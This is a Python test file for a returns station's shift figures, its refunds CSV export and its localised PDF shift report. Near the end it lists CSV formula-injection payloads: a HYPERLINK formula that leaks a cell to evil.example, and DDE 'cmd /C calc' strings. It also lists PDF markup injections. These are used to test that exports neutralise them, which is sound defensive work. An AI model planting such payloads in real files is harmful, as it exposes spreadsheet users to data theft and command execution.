"""Shift figures, the refunds export and the shift report, on a small data set whose every
figure is worked out by hand below (Stockholm time, 24 November 2026: UTC+1)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import tempfile
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import Engine, func, select

from db.engine import session_factory, write_transaction
from db.models import (
    OutboxEvent,
    ReceivedUnit,
    Rma,
    RmaLine,
)
from receiving_station.cli import main
from receiving_station.figures.exports import RefundRow, released_refunds, totals, write_csv
from receiving_station.figures.reports import FigureFilter, format_minutes, shift_figures
from receiving_station.figures.shifts import Period
from tests.helpers.figures import DAY, build_figures_day
from tests.helpers.label_images import pdf_texts


@pytest.fixture
def figures_db(engine: Engine, stockholm: None) -> Engine:
    with session_factory(engine)() as session:
        build_figures_day(session)
    return engine


def figures(engine: Engine, **kwargs: object) -> object:
    with session_factory(engine)() as session:
        return shift_figures(session, FigureFilter(**kwargs))  # type: ignore[arg-type]


def test_the_days_figures_by_hand(figures_db: Engine) -> None:
    f = figures(figures_db, period=Period(DAY, DAY))
    assert f.units == 10  # the 00:30 unit belongs to the 25th by the clock
    # Anna: 4 units in the hours 08, 09, 13 -> 1.33/h; Ben: 6 units in 14, 15, 23 -> 2.0/h
    assert [(r.name, r.units, r.active_hours) for r in f.by_operator] == [
        ("Ben", 6, 3),
        ("Anna", 4, 3),
    ]
    assert f.by_operator[0].per_hour == 2.0 and round(f.by_operator[1].per_hour, 2) == 1.33
    assert [(r.name, r.units) for r in f.by_station] == [("BENCH-02", 6), ("BENCH-01", 4)]
    assert f.by_hour_of_day == {8: 2, 9: 1, 13: 1, 14: 2, 15: 3, 23: 1}  # local hours
    assert f.by_shift == {"early": 4, "late": 5, "night": 1}
    assert f.by_day == {DAY: 10}
    assert f.by_market == {"(blind)": 1, "NL": 5, "SE": 4}
    assert f.grades == {"A": 4, "B": 3, "C": 2, "D": 1}
    assert f.dispositions == {"restock": 7, "refurbish": 2, "discard": 1}
    assert f.exceptions == {"blind_return": 1, "weight_mismatch": 1}
    assert f.exception_rate() == 20.0 and f.exception_rate("weight_mismatch") == 10.0
    # receipt -> refund accepted: 60, 120, 30, 600 min: median (rank 2 of 4) 60, p90 (rank 4) 600
    assert (
        f.receipt_to_refund.count,
        f.receipt_to_refund.median_minutes,
        f.receipt_to_refund.p90_minutes,
    ) == (4, 60, 600)
    # dock -> stock (first restock label, reprints aside): 10, 20, 40: median 20, p90 40
    assert (f.dock_to_stock.count, f.dock_to_stock.median_minutes, f.dock_to_stock.p90_minutes) == (
        3,
        20,
        40,
    )
    top = {s.sku: s for s in f.returned_most}
    assert [s.sku for s in f.returned_most] == ["DRS-1", "JKT-2", "SHO-3"]
    dress = top["DRS-1"]
    assert dress.units == 6 and dress.reasons == (("too small", 4), ("changed mind", 2))
    assert dress.grades == (("A", 3), ("B", 3)) and dress.dominant_reason == "too small"
    assert top["JKT-2"].reasons == (("defect", 3),) and top["JKT-2"].dominant_reason is None
    assert top["SHO-3"].reasons == (("(no reason given)", 1),)


def test_one_shift_one_market_one_bench(figures_db: Engine) -> None:
    night = figures(figures_db, period=Period(DAY, DAY, "night"))
    assert night.units == 2 and night.by_day == {DAY: 1, DAY + dt.timedelta(days=1): 1}
    assert night.exceptions == {"blind_return": 1}
    early = figures(figures_db, period=Period(DAY, DAY, "early"))
    assert early.units == 4 and early.exceptions == {"weight_mismatch": 1}
    se = figures(figures_db, period=Period(DAY, DAY), market="SE")
    assert se.units == 4 and se.exceptions == {"weight_mismatch": 1}
    assert se.receipt_to_refund.count == 2 and se.receipt_to_refund.median_minutes == 60
    bench = figures(figures_db, period=Period(DAY, DAY), station="BENCH-01")
    assert bench.units == 4 and [r.name for r in bench.by_operator] == ["Anna"]
    week = figures(
        figures_db, period=Period(DAY - dt.timedelta(days=1), DAY + dt.timedelta(days=1))
    )
    assert week.units == 11 and week.exception_count == 3
    empty = figures(
        figures_db, period=Period(DAY + dt.timedelta(days=9), DAY + dt.timedelta(days=9))
    )
    assert empty.units == 0 and empty.exception_rate() == 0.0 and empty.returned_most == ()
    assert empty.receipt_to_refund.median_minutes is None


def test_minutes_in_words() -> None:
    assert [format_minutes(m) for m in (None, 7, 65, 1500)] == [
        "–",
        "7 min",
        "1 h 5 min",
        "1 d 1 h",
    ]


def test_refunds_export_adds_up_to_the_database(
    figures_db: Engine, database_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with session_factory(figures_db)() as session:
        start, end = Period(DAY, DAY).bounds
        rows = released_refunds(session, start, end)
        sums = totals(rows)
        # The database's own sum of the amounts of the units whose refund was accepted that day.
        db_sum = dict(
            session.execute(
                select(RmaLine.currency, func.sum(ReceivedUnit.refund_amount))
                .join(ReceivedUnit, ReceivedUnit.rma_line_id == RmaLine.id)
                .join(OutboxEvent, OutboxEvent.subject == "refund:" + ReceivedUnit.lpn)
                .where(
                    OutboxEvent.state == "sent",
                    OutboxEvent.sent_at >= start,
                    OutboxEvent.sent_at < end,
                )
                .group_by(RmaLine.currency)
            ).all()
        )
    # Unit 7's refund was accepted at 01:35 on the 25th: not in the 24th's books.
    assert [r.lpn for r in rows] == ["LPN0000000000", "LPN0000000001", "LPN0000000004"]
    by = {(t.currency, t.market): t for t in sums}
    assert by[("SEK", "SE")].refunded == Decimal("998.00") == db_sum["SEK"]
    assert by[("SEK", "SE")].refunds == 2 and by[("SEK", "SE")].store_credit == 0
    assert by[("EUR", "NL")].refunded == Decimal("59.95") == db_sum["EUR"]
    assert by[("EUR", "NL")].store_credit == Decimal("59.95") and by[("EUR", "NL")].refunds == 1

    out = tmp_path / "refunds.csv"
    status = main(
        [
            "export",
            "refunds",
            "--database",
            database_url,
            "--from",
            "2026-11-24",
            "--to",
            "2026-11-24",
            "--output",
            str(out),
        ]
    )
    assert status == 0
    printed = capsys.readouterr().out
    assert "3 refunded units" in printed and "EUR NL: refunds 1, units 1, refunded 59.95" in printed
    table = list(csv.DictReader(io.StringIO(out.read_text())))
    assert len(table) == 3
    assert sum(Decimal(r["refund"]) for r in table) == Decimal("1057.95")
    assert {r["method"] for r in table} == {"original_payment", "store_credit"}
    assert table[0]["accepted_at_utc"] == "2026-11-24T08:05:00+00:00"  # 09:05 in Stockholm
    # The whole week takes the refund accepted on the 26th too.
    main(
        [
            "export",
            "refunds",
            "--database",
            database_url,
            "--from",
            "2026-11-20",
            "--to",
            "2026-11-30",
            "--output",
            str(out),
        ]
    )
    assert len(list(csv.DictReader(io.StringIO(out.read_text())))) == 5


def test_shift_report_pdf(
    figures_db: Engine, database_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "shift.pdf"
    status = main(
        [
            "report",
            "shift",
            "--database",
            database_url,
            "--date",
            "2026-11-24",
            "--site",
            "Borås",
            "--output",
            str(out),
        ]
    )
    assert status == 0 and "10 units, 2 exceptions" in capsys.readouterr().out
    text = " ".join(pdf_texts(out.read_bytes()))
    for expected in (
        "Shift report - Borås",
        "Units received",
        "10",
        "Ben",
        "2.0",
        "Anna",
        "1.3",
        "median 1 h 0 min",
        "p90 10 h 0 min",
        "DRS-1",
        "too small 4",
        "CHECK",
        "weight mismatch",
        "20.0 per 100 units",
    ):
        assert expected in text, expected
    assert (
        main(
            [
                "report",
                "shift",
                "--database",
                database_url,
                "--from",
                "2026-11-25",
                "--to",
                "2026-11-24",
                "--output",
                str(out),
            ]
        )
        == 2
    )
    assert "ends (2026-11-24) before it starts" in capsys.readouterr().err


def test_the_files_for_people_in_their_language_and_locale(
    figures_db: Engine, database_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """--language: the refunds CSV for a Swedish spreadsheet (columns named, decimal comma,
    semicolons, local times) and the shift report in German; a language the station does not
    speak is refused with the list."""
    out = tmp_path / "refunds.csv"
    day = ["--from", "2026-11-24", "--to", "2026-11-24"]
    base = ["export", "refunds", "--database", database_url, *day, "--output", str(out)]
    assert main([*base, "--language", "sv"]) == 0
    header, *rows = out.read_text(encoding="utf-8-sig").splitlines()
    assert header.startswith("godkänd (lokal tid);RMA;order;marknad;valuta;metod;LPN")
    assert len(rows) == 3
    first = rows[0].split(";")
    assert first[0] == "2026-11-24 09:05:00"  # Stockholm time, the Swedish way
    assert first[5] == "ursprungligt betalsätt" and first[9] == "499,00"
    assert "tillgodokvitto" in out.read_text(encoding="utf-8-sig")
    assert main([*base, "--language", "xx"]) == 2
    assert "is not one the station speaks" in capsys.readouterr().err

    pdf = tmp_path / "shift.pdf"
    report = ["report", "shift", "--database", database_url, "--date", "2026-11-24"]
    assert main([*report, "--site", "Borås", "--language", "de", "--output", str(pdf)]) == 0
    text = " ".join(pdf_texts(pdf.read_bytes()))
    for expected in (
        "Schichtbericht - Borås",
        "Angenommene Artikel",
        "Median 1 Std. 0 Min.",
        "20,0 je 100 Artikel",
        "Gewichtsabweichung",
        "PRÜFEN",
    ):
        assert expected in text, expected
    assert "Units received" not in text


def test_refund_amounts_are_written_in_their_currencys_form() -> None:
    """For a program as the upstream contract writes money; for a person the same decimals."""
    from receiving_station.i18n.language import Writing

    def row(currency: str, refund: str, fee: str) -> RefundRow:
        return RefundRow(
            dt.datetime(2026, 11, 24, 9, 0, tzinfo=dt.UTC), "RMA-1", "SO-1", "SE", currency,
            "original_payment", "LPN1", "SKU-1", "B", Decimal(refund), Decimal(fee), "R-1",
            "refund:LPN1",
        )  # fmt: skip

    rows = [row("SEK", "1", "668"), row("JPY", "1200.00", "0.00"), row("JPY", "99.50", "0")]
    program = io.StringIO()
    write_csv(rows, program)
    table = list(csv.DictReader(io.StringIO(program.getvalue())))
    assert [(r["refund"], r["restocking_fee"]) for r in table] == [
        ("1.00", "668.00"),
        ("1200", "0"),
        ("99.50", "0"),  # sent before amounts were checked: as it was
    ]
    person = io.StringIO()
    write_csv(rows, person, Writing("sv", "sv_SE"))
    cells = [line.split(";")[9:11] for line in person.getvalue().splitlines()[1:]]
    assert cells == [["1,00", "668,00"], ["1200", "0"], ["99,50", "0"]]


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_no_exported_cell_runs_and_no_product_text_changes_a_pdf(
    figures_db: Engine, database_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Order numbers, SKUs and descriptions from an import reach the refunds export and the
    shift report as written: no CSV cell starts a formula (OWASP's rule), no SKU or description
    is PDF markup (a bold tag, an image from the disk, a link)."""
    secret = Path(tempfile.gettempdir()) / f"rs{os.getpid()}.png"  # short: a SKU is 64 at most
    secret.write_bytes(b"\x89PNG not for the report")
    markup = ["<b>X", f'<img src="{secret}"/>', '<a href="http://evil">']
    with write_transaction(session_factory(figures_db)) as session:
        for n, rma in enumerate(session.scalars(select(Rma).order_by(Rma.id))):
            rma.order_number = HOSTILE[n % len(HOSTILE)]
        for n, line in enumerate(session.scalars(select(RmaLine).order_by(RmaLine.id))):
            line.sku = (HOSTILE + markup)[n % (len(HOSTILE) + len(markup))]
            line.description = markup[n % len(markup)]
        for unit in session.scalars(select(ReceivedUnit)):
            if unit.line is not None:
                unit.sku = unit.line.sku
    csv_files = []
    for language in (None, "sv"):
        out = tmp_path / f"refunds-{language}.csv"
        args = ["export", "refunds", "--database", database_url, "--from", "2026-11-20"]
        args += ["--to", "2026-11-30", "--output", str(out)]
        assert main([*args, *(["--language", language] if language else [])]) == 0
        csv_files.append(out.read_text(encoding="utf-8-sig"))
    for text in csv_files:
        delimiter = ";" if text.splitlines()[0].count(";") > 1 else ","
        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
        assert cells, "nothing exported"
        starting = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert all(c.lstrip("-").replace(".", "").replace(",", "").isdigit() for c in starting)
        assert any(c.startswith("'=HYPERLINK(") for c in cells)
        quoted = {c[1:] for c in cells if c.startswith("'")}
        assert len(quoted) >= 3 and quoted <= set(HOSTILE), quoted

    out = tmp_path / "shift.pdf"
    args = ["report", "shift", "--database", database_url, "--date", "2026-11-24"]
    assert main([*args, "--output", str(out)]) == 0, capsys.readouterr().err
    pdf = out.read_bytes()
    text = " ".join(pdf_texts(pdf))
    assert "<b>X" in text or "<img" in text or "<a href" in text
    assert b"/Subtype /Image" not in pdf and b"not for the report" not in pdf
    assert b"/URI" not in pdf and b"/Annots" not in pdf
    secret.unlink()
